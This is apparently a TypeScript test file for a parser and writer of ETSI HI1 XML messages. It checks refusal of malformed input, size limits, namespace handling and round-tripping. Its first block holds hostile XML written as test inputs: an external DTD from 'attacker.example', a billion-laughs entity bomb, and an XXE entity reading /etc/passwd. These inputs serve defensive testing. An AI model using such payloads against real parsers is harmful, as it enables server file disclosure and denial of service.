import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { limits, parseXml, validate, writeXml } from './index.ts'

const example = readFileSync(join(import.meta.dirname, '../../../../vectors/etsi/xml/request4.xml'), 'utf8')
const core = 'http://uri.etsi.org/03120/common/2019/10/Core'

const refusal = (input: string | Uint8Array) => {
  const read = parseXml(input)
  if (read.ok) throw new Error('was read')
  return read.errors[0]
}

describe('XML that is refused, with where', () => {
  const laughs = `<!DOCTYPE HI1Message [<!ENTITY a "ha">${[...'bcdefghij'].map((e, i) => `<!ENTITY ${e} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`
  test.each([
    [
      'a document type',
      `<!DOCTYPE HI1Message SYSTEM "http://attacker.example/x.dtd"><HI1Message xmlns="${core}"/>`,
      'xml.doctype',
    ],
    ['a billion laughs', `${laughs}<HI1Message xmlns="${core}">&j;</HI1Message>`, 'xml.doctype'],
    [
      'a file of the server',
      `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><HI1Message xmlns="${core}">&f;</HI1Message>`,
      'xml.doctype',
    ],
    ['an entity that XML does not own', `<HI1Message xmlns="${core}">&nbsp;</HI1Message>`, 'xml.entity'],
    ['an entity never closed', `<HI1Message xmlns="${core}">&amp</HI1Message>`, 'xml.notWellFormed'],
    ['an element never closed', `<HI1Message xmlns="${core}"><Header></HI1Message>`, 'xml.notWellFormed'],
    [
      'a prefix that nobody declared',
      `<HI1Message xmlns="${core}"><task:Reference/></HI1Message>`,
      'xml.notWellFormed',
    ],
    ['an attribute twice', `<HI1Message xmlns="${core}" a="1" a="2"/>`, 'xml.notWellFormed'],
    ['two roots', `<HI1Message xmlns="${core}"/><HI1Message xmlns="${core}"/>`, 'xml.notWellFormed'],
    ['a control character', `<HI1Message xmlns="${core}">\u0001</HI1Message>`, 'xml.character'],
    ['a control character by its number', `<HI1Message xmlns="${core}">&#1;</HI1Message>`, 'xml.character'],
    ['nothing', ' ', 'xml.notWellFormed'],
    ['XML 1.1', `<?xml version="1.1"?><HI1Message xmlns="${core}"/>`, 'xml.version'],
    [
      'Latin 1',
      `<?xml version="1.0" encoding="ISO-8859-1"?><HI1Message xmlns="${core}"/>`,
      'encoding.unsupported',
    ],
    ['another standard', '<Invoice xmlns="urn:x"/>', 'xml.root'],
    ['the right name without its namespace', '<HI1Message/>', 'xml.root'],
  ])('%s', (_, text, code) => {
    const error = refusal(text)
    expect(error?.code).toBe(code)
    if (code !== 'xml.root') expect(error?.params.line).toBe(1)
  })

  test('the line is the one of the fault', () => {
    expect(refusal(example.replace('</Header>', '</Heeder>'))).toMatchObject({
      code: 'xml.notWellFormed',
      params: { line: 19, reason: 'closing' },
    })
  })

  test('UTF-16 is named and not guessed at', () => {
    expect(refusal(new Uint8Array(Buffer.from(`\uFEFF${example}`, 'utf16le')))).toMatchObject({
      code: 'encoding.unsupported',
      params: { encoding: 'UTF-16' },
    })
    expect(refusal(new Uint8Array(Buffer.from(example, 'utf16le')))?.code).toBe('encoding.unsupported')
  })

  test('depth, attributes, elements and names have an end', () => {
    expect(refusal(`<HI1Message xmlns="${core}">${'<a>'.repeat(10_000)}`)?.code).toBe('size.tooDeep')
    const attributes = Array.from({ length: limits.attributes + 1 }, (_, i) => `a${i}="1"`).join(' ')
    expect(refusal(`<HI1Message xmlns="${core}" ${attributes}/>`)?.code).toBe('size.tooManyAttributes')
    expect(refusal(`<HI1Message xmlns="${core}">${'<a/>'.repeat(limits.nodes)}</HI1Message>`)?.code).toBe(
      'size.tooManyParts',
    )
    expect(
      refusal(`<HI1Message xmlns="${core}"><${'a'.repeat(limits.nameLength + 1)}/></HI1Message>`)?.code,
    ).toBe('size.nameTooLong')
    expect(refusal(' '.repeat(limits.bytes + 1))?.code).toBe('size.tooLarge')
  })
})

describe('XML that stands for the same message', () => {
  const tree = parseXml(example)

  test('other prefixes, CDATA, comments and references change nothing', () => {
    const other = example
      .replaceAll('task:', 't:')
      .replace('xmlns:task', 'xmlns:t')
      .replace('>W000001<', '><![CDATA[W0000]]><!-- order -->&#48;1<')
    expect(parseXml(other)).toEqual(tree)
  })

  test('a prefix for the core and none for another module', () => {
    const other = example
      .replaceAll(/<(\/?)([A-Z][A-Za-z0-9]*)/g, '<$1c:$2')
      .replace('xmlns="', 'xmlns:c="')
      .replaceAll(/<(\/?)auth:/g, '<$1auth:')
    const read = parseXml(other)
    if (!read.ok || !tree.ok) throw new Error('not read')
    expect(read.message).toEqual(tree.message)
    expect(read.message['@xmlns']).toBe(core)
  })

  test('a declaration deep inside is as good as one at the top', () => {
    const task = 'xmlns:task="http://uri.etsi.org/03120/common/2020/09/Task"'
    const other = example
      .replace(` ${task}`, '')
      .replace('<HI1Object xsi:type="task:', `<HI1Object ${task} xsi:type="task:`)
    expect(validate(other)).toEqual({ valid: true, errors: [], warnings: [] })
  })

  test('what is written reads back the same', () => {
    if (!tree.ok) throw new Error('not read')
    const written = writeXml(tree.message)
    expect(written.ok && parseXml(written.xml)).toEqual(tree)
  })
})

describe('XML that is written', () => {
  const message = (value: string) => ({ Header: { Version: { NationalProfileOwner: value } }, Payload: {} })

  test('a text with every special character comes back', () => {
    const text = '<&>"\'\r\n\t]]> ñ 😀 \u00A0'
    const written = writeXml(message(text))
    expect(written.ok && parseXml(written.xml)).toMatchObject({ message: message(text) })
  })

  test.each([
    ['a control character', message('\u0007'), 'xml.uncarriable', '/Header/Version/NationalProfileOwner'],
    ['half a surrogate', message('\uD800'), 'xml.uncarriable', '/Header/Version/NationalProfileOwner'],
    ['a name with a space', { 'two words': 'x' }, 'xml.name', '/two words'],
    ['a name that would open an element', { 'a><b': 'x' }, 'xml.name', '/a><b'],
    ['null', { Header: null }, 'xml.noValue', '/Header'],
    ['a list in a list', { Header: [['x']] }, 'xml.listInList', '/Header/0'],
    [
      'a signature of JSON',
      { Signature: { protected: 'x', signature: 'y' } },
      'xml.jsonSignature',
      '/Signature',
    ],
  ])('%s has no form in XML', (_, tree, code, path) => {
    expect(writeXml(tree)).toMatchObject({ ok: false, errors: [{ code, path }] })
  })
})

test('elements that the standard does not know are kept, and written under their own namespace', () => {
  const other = example.replace('</Header>', '<x:Trace xmlns:x="urn:hub" hop="1">a<x:b/>c</x:Trace></Header>')
  const read = parseXml(other)
  if (!read.ok) throw new Error('not read')
  expect((read.message.Header as Record<string, unknown>)['{urn:hub}Trace']).toEqual({
    '@hop': '1',
    '{urn:hub}b': '',
    '#text': 'ac',
  })
  expect(validate(other).errors).toEqual([
    { code: 'schema.unknownProperty', path: '/Header/{urn:hub}Trace', params: {} },
  ])
  const written = writeXml(read.message)
  expect(written.ok && parseXml(written.xml)).toMatchObject({
    ok: true,
    message: { Header: read.message.Header },
  })
})
